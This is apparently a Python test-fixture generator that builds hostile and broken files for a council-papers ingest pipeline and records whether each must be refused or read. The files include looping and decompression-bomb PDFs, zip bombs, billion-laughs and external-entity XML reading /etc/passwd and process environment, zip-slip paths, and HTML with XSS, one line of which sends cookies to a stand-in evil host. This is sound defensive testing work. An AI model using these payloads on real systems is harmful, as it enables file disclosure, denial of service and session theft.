"""A generated corpus of hostile and broken committee papers, and a few good ones.

Every input is built here from scratch (nothing hostile is stored in the repository). Each
case says what a correct ingest must do with it: ``fail`` (refused with a reason), ``ok``
(read: a good paper, perhaps with a misleading name) or ``any`` (either, as long as nothing
crashes or hangs: a mutated PDF may still be readable).
"""

from __future__ import annotations

import io
import random
import zipfile
import zlib
from dataclasses import dataclass
from typing import Iterator

FAIL, OK, ANY = "fail", "ok", "any"
SECRET = "ROOTPASSWORDLEAK"  # must never be indexed: stands for a local file's content


@dataclass(frozen=True)
class Case:
    """One input file and what must become of it."""

    name: str
    data: bytes
    expect: str
    kind: str


GOOD_TEXT = (
    "Budget monitoring report {n}\n\n"
    "1. Purpose\n\n1.1 This report sets out the revenue position of the council at month {n}.\n\n"
    "2. Position\n\n2.1 The forecast overspend on children's services is £{n}.4m, mainly placements.\n"
)


def good_pdf(text: str = "Agenda item 5: Fostering sufficiency. The committee noted the report.", **kw) -> bytes:
    """A small, valid PDF made with reportlab (``encrypt=`` makes it password-protected)."""
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    c = canvas.Canvas(out, **kw)
    for page in range(2):
        c.drawString(72, 720, f"{text} (page {page + 1})")
        c.drawString(72, 700, "1.1 The number of children in care rose to 412 at 31 March 2024.")
        c.showPage()
    c.save()
    return out.getvalue()


def good_docx(paragraphs: list[str]) -> bytes:
    """A small, valid DOCX made with python-docx."""
    import docx

    document = docx.Document()
    document.add_heading("Workforce report", level=1)
    for text in paragraphs:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def raw_pdf(objects: list[bytes], root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF from numbered object bodies, with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, trailer_extra, xref)
    return bytes(out)


def _stream(content: bytes, compress: bool = False) -> bytes:
    if compress:
        content = zlib.compress(content, 9)
        return b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream"
    return b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"


def circular_pdfs() -> Iterator[Case]:
    """Page trees and references that loop back on themselves."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << >> >>"
    text = _stream(b"BT /F1 12 Tf 72 720 Td (Looping) Tj ET")
    variants = {
        "kids_self": [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>", page, text],
        "kids_parent_loop": [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                             b"<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>", text],
        "catalog_self": [b"<< /Type /Catalog /Pages 1 0 R >>", b"<< >>", b"<< >>", text],
        "ref_chain": [b"<< /Type /Catalog /Pages 2 0 R >>", b"3 0 R", b"2 0 R", text],
        "contents_loop": [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                          b"<< /Type /Page /Parent 2 0 R /Contents [4 0 R 3 0 R] /Resources 3 0 R >>", text],
        "huge_count": [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 999999999 >>",
                       page, text],
        "deep_array": [b"<< /Type /Catalog /Pages 2 0 R /X " + b"[" * 50000 + b"]" * 50000 + b" >>",
                       b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, text],
        "deep_dict": [b"<< /Type /Catalog /Pages 2 0 R /X " + b"<< /A " * 20000 + b"1" + b" >>" * 20000 + b" >>",
                      b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, text],
        "missing_objects": [b"<< /Type /Catalog /Pages 9 0 R >>", b"<< >>", b"<< >>", text],
        "bad_root": [b"(not a dictionary)", b"<< >>", b"<< >>", text],
    }
    for name, objects in variants.items():
        yield Case(f"circular_{name}.pdf", raw_pdf(objects), ANY, "circular pdf")
    yield Case("xref_loop.pdf", raw_pdf(variants["kids_self"])[:-30] + b"startxref\n0\n%%EOF\n", ANY, "circular pdf")
    # a /Prev chain of cross-reference sections pointing at itself
    base = raw_pdf(variants["kids_self"])
    xref_at = base.rindex(b"xref\n")
    yield Case("xref_prev_self.pdf", base.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % xref_at), ANY, "circular pdf")


def bomb_pdfs() -> Iterator[Case]:
    """Compressed content streams that inflate to far more than they weigh."""
    for size_mb in (64, 256):
        content = _deflate(b" " * (1 << 20), size_mb)
        stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream"
        objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                   b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << >> >>",
                   stream]
        yield Case(f"flate_bomb_{size_mb}mb.pdf", raw_pdf(objects), ANY, "decompression bomb pdf")


def broken_pdfs(base: bytes, rng: random.Random) -> Iterator[Case]:
    """Truncations, byte flips, encryption and other damage to a valid PDF."""
    for i in range(30):
        cut = max(1, int(len(base) * (i + 0.5) / 30))
        yield Case(f"truncated_{i:02d}.pdf", base[:cut], ANY, "truncated pdf")
    for i in range(40):
        data = bytearray(base)
        for _ in range(rng.choice((1, 5, 50, 500))):
            data[rng.randrange(len(data))] = rng.randrange(256)
        yield Case(f"mutated_{i:02d}.pdf", bytes(data), ANY, "mutated pdf")
    for i in range(10):
        data = bytearray(base)
        start = rng.randrange(len(data) // 2)
        del data[start:start + rng.randrange(1, 2000)]
        yield Case(f"spliced_{i:02d}.pdf", bytes(data), ANY, "mutated pdf")
    for i, password in enumerate(("secret", "s3cr3t-longer-password", "x" * 32)):
        yield Case(f"encrypted_{i}.pdf", good_pdf(encrypt=password), FAIL, "encrypted pdf")
    yield Case("header_only.pdf", b"%PDF-1.7\n", FAIL, "truncated pdf")
    yield Case("garbage_after_header.pdf", b"%PDF-1.4\n" + rng.randbytes(5000), FAIL,
               "mutated pdf")


def _deflate(chunk: bytes, times: int, head: bytes = b"", tail: bytes = b"", wbits: int = 15) -> bytes:
    """Deflated ``head + chunk * times + tail``, built in milliseconds.

    After a full flush the compressor forgets its history, so every repeat of ``chunk``
    compresses to the same bytes: compress it once and repeat the result.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
    start = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    segment = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.compress(tail) + packer.flush()
    if wbits > 0:  # a zlib stream ends with the Adler-32 of everything
        adler = zlib.adler32(head)
        for _ in range(times):
            adler = zlib.adler32(chunk, adler)
        adler = zlib.adler32(tail, adler)
        end = end[:-4] + adler.to_bytes(4, "big")
    return start + segment * times + end


def _zip_entry_bomb(name: str, head: bytes, chunk: bytes, times: int, tail: bytes, declared: int | None = None) -> tuple:
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + len(chunk) * times + len(tail)
    return name.encode(), _deflate(chunk, times, head, tail, wbits=-15), crc, declared or size


def _zip_raw(entries: list[tuple]) -> bytes:
    """A ZIP of (name, deflated data, crc, size) entries, written by hand."""
    import struct

    out, central = bytearray(), bytearray()
    for name, data, crc, size in entries:
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), size, len(name), 0) + name + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), size,
                               len(name), 0, 0, 0, 0, 0, offset) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(out), 0)
    return bytes(out + central + end)


def _zip_bomb(megabytes: int, declared: int | None = None) -> bytes:
    """A Word-shaped archive whose document.xml unpacks to ``megabytes`` MiB of one run of text."""
    types = _zip_entry_bomb("[Content_Types].xml", _CT, b"", 0, b"")
    body = _zip_entry_bomb("word/document.xml", b"<w:document " + _W + b"><w:body><w:p><w:r><w:t>", b"A" * (1 << 20),
                           megabytes, b"</w:t></w:r></w:p></w:body></w:document>", declared)
    return _zip_raw([types, body])


def _zip(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


_CT = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
       b'<Default Extension="xml" ContentType="application/xml"/></Types>')
_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _docx_with(document_xml: bytes) -> bytes:
    return _zip({"[Content_Types].xml": _CT, "word/document.xml": document_xml})


def docx_cases(good: bytes) -> Iterator[Case]:
    """Zip bombs, XML bombs inside Word files, damaged and impostor archives."""
    yield Case("zip_bomb_600mb.docx", _zip_bomb(600), FAIL, "zip bomb docx")
    yield Case("zip_bomb_300mb.docx", _zip_bomb(300), FAIL, "zip bomb docx")
    yield Case("zip_bomb_lying_size.docx", _zip_bomb(300, declared=4096), FAIL, "zip bomb docx")
    many = {"[Content_Types].xml": _CT, "word/document.xml": b"<w:document " + _W + b"/>"}
    many.update({f"word/media/pad{i}.bin": b"\0" * (1 << 20) for i in range(40)})
    yield Case("zip_many_entries.docx", _zip(many), ANY, "zip bomb docx")
    paras = _zip_raw([_zip_entry_bomb("[Content_Types].xml", _CT, b"", 0, b""),
                      _zip_entry_bomb("word/document.xml", b"<w:document " + _W + b"><w:body>", b"<w:p/>" * 100_000,
                                      40, b"</w:body></w:document>")])
    yield Case("zip_four_million_paragraphs.docx", paras, ANY, "zip bomb docx")
    laughs = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
              + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                         for i in range(1, 10))
              + b"]><w:document " + _W + b"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>")
    yield Case("billion_laughs.docx", _docx_with(laughs), FAIL, "billion laughs docx")
    xxe = (b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document ' + _W
           + b"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>")
    yield Case("xxe_file.docx", _docx_with(xxe), ANY, "external entity docx")
    yield Case("xxe_http.docx", _docx_with(xxe.replace(b"file:///etc/passwd", b"http://127.0.0.1:9/x")), ANY,
               "external entity docx")
    yield Case("not_word.docx", _zip({"hello.txt": b"hello"}), FAIL, "impostor zip")
    yield Case("zip_slip.docx", _zip({"../../evil.txt": b"x", "word/document.xml": b"<w:document " + _W + b"/>"}),
               ANY, "impostor zip")
    yield Case("document_not_xml.docx", _docx_with(b"\x00\x01 not xml at all"), FAIL, "damaged docx")
    yield Case("empty_zip.docx", _zip({}), FAIL, "impostor zip")
    for i in range(10):
        cut = max(4, len(good) * (i + 1) // 11)
        yield Case(f"truncated_{i:02d}.docx", good[:cut], FAIL, "truncated docx")
    nested = _zip({"inner.zip": _zip({"word/document.xml": b"x" * 1000})})
    yield Case("nested_zip.docx", nested, FAIL, "impostor zip")


def xml_cases() -> Iterator[Case]:
    """ModernGov-looking XML with entity bombs, external entities and worse."""
    item = b"<agendaitems><agendaitem><agendaitemtitle>Budget</agendaitemtitle><agendatext>&%s;</agendatext></agendaitem></agendaitems>"
    laughs = (b'<?xml version="1.0"?>\n<!DOCTYPE meeting [<!ENTITY lol "lol">'
              + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                         for i in range(1, 10)) + b"]>\n<meeting><meetingdate>10/02/2026</meetingdate>"
              + item % b"lol9" + b"</meeting>")
    yield Case("billion_laughs.xml", laughs, FAIL, "billion laughs xml")
    quad = (b'<?xml version="1.0"?><!DOCTYPE meeting [<!ENTITY a "' + b"A" * 50000 + b'">]><meeting>'
            + item % b"a" * 1 + (b"&a;" * 5000) + b"</meeting>")
    yield Case("quadratic_blowup.xml", quad, FAIL, "entity expansion xml")
    for i, target in enumerate((b"file:///etc/passwd", b"file:///proc/self/environ", b"http://127.0.0.1:9/dtd",
                                b"https://example.invalid/x", b"/etc/hostname")):
        xxe = (b'<?xml version="1.0"?><!DOCTYPE meeting [<!ENTITY x SYSTEM "' + target + b'">]><meeting>'
               + item % b"x" + b"</meeting>")
        yield Case(f"xxe_{i}.xml", xxe, FAIL, "external entity xml")
        param = (b'<?xml version="1.0"?><!DOCTYPE meeting [<!ENTITY % p SYSTEM "' + target + b'"> %p;]><meeting/>')
        yield Case(f"xxe_param_{i}.xml", param, FAIL, "external entity xml")
    yield Case("external_dtd.xml", b'<?xml version="1.0"?><!DOCTYPE meeting SYSTEM "http://127.0.0.1:9/m.dtd"><meeting/>',
               ANY, "external entity xml")
    yield Case("xinclude.xml", b'<meeting xmlns:xi="http://www.w3.org/2001/XInclude"><agendaitems><agendaitem>'
               b'<agendatext><xi:include href="file:///etc/passwd" parse="text"/></agendatext></agendaitem>'
               b"</agendaitems></meeting>", ANY, "external entity xml")
    yield Case("deep_nesting.xml", b"<meeting>" + b"<a>" * 100000 + b"</a>" * 100000 + b"</meeting>", ANY, "deep xml")
    yield Case("unclosed.xml", b"<?xml version='1.0'?><meeting><agendaitems><agendaitem>", ANY, "damaged xml")
    yield Case("huge_attribute.xml", b'<meeting x="' + b"A" * (4 << 20) + b'"/>', ANY, "enormous line")
    yield Case("unknown_root.xml", b"<?xml version='1.0'?><rss><channel/></rss>", FAIL, "wrong format")
    yield Case("bad_encoding.xml", b"<?xml version='1.0' encoding='klingon'?><meeting/>", ANY, "damaged xml")


def html_cases() -> Iterator[Case]:
    """Pages with scripts, handlers, frames, lies about their charset, and deep nesting."""
    script = ("<html><head><title>Minutes</title><script>alert('xss')</script></head><body>"
              "<h1>Minutes of the Cabinet</h1><p>1. The Cabinet agreed the budget of £4.2m.</p>"
              "<img src=x onerror=alert(1)><iframe src='javascript:alert(2)'></iframe>"
              "<script>document.location='http://evil.invalid/?'+document.cookie</script>"
              "<p>2. <a href='javascript:alert(3)'>Link</a> to the report on highways.</p></body></html>")
    yield Case("scripts.html", script.encode(), OK, "html with scripts")
    yield Case("svg_script.html", b"<html><body><svg><script>alert(1)</script></svg><p>Planning decision noted.</p></body></html>",
               OK, "html with scripts")
    yield Case("only_script.html", b"<html><head><script>var a = 1;</script></head><body></body></html>", FAIL,
               "html with scripts")
    yield Case("deep_divs.html", b"<html><body>" + b"<div>" * 200000 + b"deep" + b"</div>" * 200000 + b"</body></html>",
               ANY, "deep html")
    yield Case("unclosed_tags.html", b"<html><body>" + b"<p><b><i>Decision " * 5000, ANY, "damaged html")
    yield Case("huge_comment.html", b"<html><body><!--" + b"x" * (3 << 20) + b"--><p>Item 3 noted.</p></body></html>",
               ANY, "enormous line")
    yield Case("charset_lie.html", b'<html><head><meta charset="utf-16"></head><body><p>Caf\xc3\xa9 grant approved.</p></body></html>',
               ANY, "damaged html")
    yield Case("meta_refresh.html", b'<html><head><meta http-equiv="refresh" content="0;url=http://evil.invalid"></head>'
               b"<body><p>The report was noted by the committee.</p></body></html>", OK, "html with scripts")


def binary_cases(rng: random.Random) -> Iterator[Case]:
    """Binary content under text-like and document names."""
    for i in range(20):
        yield Case(f"random_{i:02d}.txt", rng.randbytes((4096, 65536)[i % 2]), FAIL, "binary named .txt")
    for i in range(5):  # too short to tell from cp1252 text: refused or read, never a crash
        yield Case(f"random_tiny_{i}.txt", rng.randbytes(16), ANY, "binary named .txt")
    magic = {
        "elf": b"\x7fELF\x02\x01\x01" + bytes(2000), "png": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8,
        "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(range(256)) * 8, "gzip": zlib.compress(b"x" * 10000),
        "ole_doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000), "nul_text": b"Budget\x00report\x00" * 300,
        "utf16_odd": b"\xff\xfe" + b"a\x00b", "controls": bytes(range(1, 32)) * 200,
    }
    for label, data in magic.items():
        yield Case(f"{label}.txt", data, FAIL if label != "utf16_odd" else ANY, "binary named .txt")
    for ext in ("pdf", "docx", "html", "xml"):
        yield Case(f"random_binary.{ext}", rng.randbytes(8192), FAIL, "binary, wrong extension")


def empty_and_huge_cases() -> Iterator[Case]:
    """Empty and whitespace files under every name, and enormous single lines."""
    for ext in ("txt", "pdf", "docx", "html", "htm", "xml", "doc", "csv", ""):
        yield Case(f"empty.{ext}" if ext else "empty", b"", FAIL, "empty file")
        yield Case(f"blank.{ext}" if ext else "blank", b" \n\t\r\n  " * 50, FAIL, "empty file")
    yield Case("bom_only.txt", b"\xef\xbb\xbf", FAIL, "empty file")
    yield Case("one_line_words.txt", b"the council resolved " * 150000, ANY, "enormous line")
    yield Case("one_line_no_spaces.txt", b"x" * (3 << 20), ANY, "enormous line")
    yield Case("one_line_html.html", b"<html><body><p>" + b"decision " * 300000 + b"</p></body></html>", ANY,
               "enormous line")
    yield Case("many_lines.txt", b"a\n" * 2_000_000, ANY, "enormous line")


def wrong_extension_cases(pdf: bytes, docx: bytes) -> Iterator[Case]:
    """Good papers whose names lie about their format: sniffing must read them anyway."""
    html = b"<html><body><h1>Minutes</h1><p>1. The minutes of the last meeting were approved.</p></body></html>"
    yield Case("report_pdf_named.docx", pdf, OK, "wrong extension")
    yield Case("report_pdf_named.txt", pdf, OK, "wrong extension")
    yield Case("report_docx_named.pdf", docx, OK, "wrong extension")
    yield Case("minutes_html_named.txt", html, OK, "wrong extension")
    yield Case("minutes_html_named.doc", html, OK, "wrong extension")
    yield Case("notes_text_named.pdf", GOOD_TEXT.format(n=77).encode(), OK, "wrong extension")
    yield Case("notes_text_named.docx", GOOD_TEXT.format(n=78).encode(), OK, "wrong extension")


def good_cases() -> list[Case]:
    """Good papers of every format, to be ingested alongside the hostile ones."""
    docx = good_docx(["1.1 Agency social workers fell to 18% of the workforce.", "1.2 Vacancies stand at 41."])
    cases = [Case(f"good_budget_{n}.txt", GOOD_TEXT.format(n=n).encode(), OK, "good") for n in range(1, 4)]
    cases += [Case("good_agenda.pdf", good_pdf(), OK, "good"), Case("good_workforce.docx", docx, OK, "good"),
              Case("good_minutes.html", b"<html><body><h1>Cabinet minutes</h1><p>1. The Cabinet approved the "
                                        b"libraries strategy.</p></body></html>", OK, "good")]
    return cases


def hostile_cases(seed: int = 20240601) -> list[Case]:
    """At least 200 bad inputs, deterministic for a seed."""
    rng = random.Random(seed)
    pdf = good_pdf()
    docx = good_docx(["1.1 The workforce strategy was agreed.", "1.2 Turnover fell to 16.9%."])
    cases = [*circular_pdfs(), *bomb_pdfs(), *broken_pdfs(pdf, rng), *docx_cases(docx), *xml_cases(),
             *html_cases(), *binary_cases(rng), *empty_and_huge_cases(), *wrong_extension_cases(pdf, docx)]
    names = [c.name for c in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases
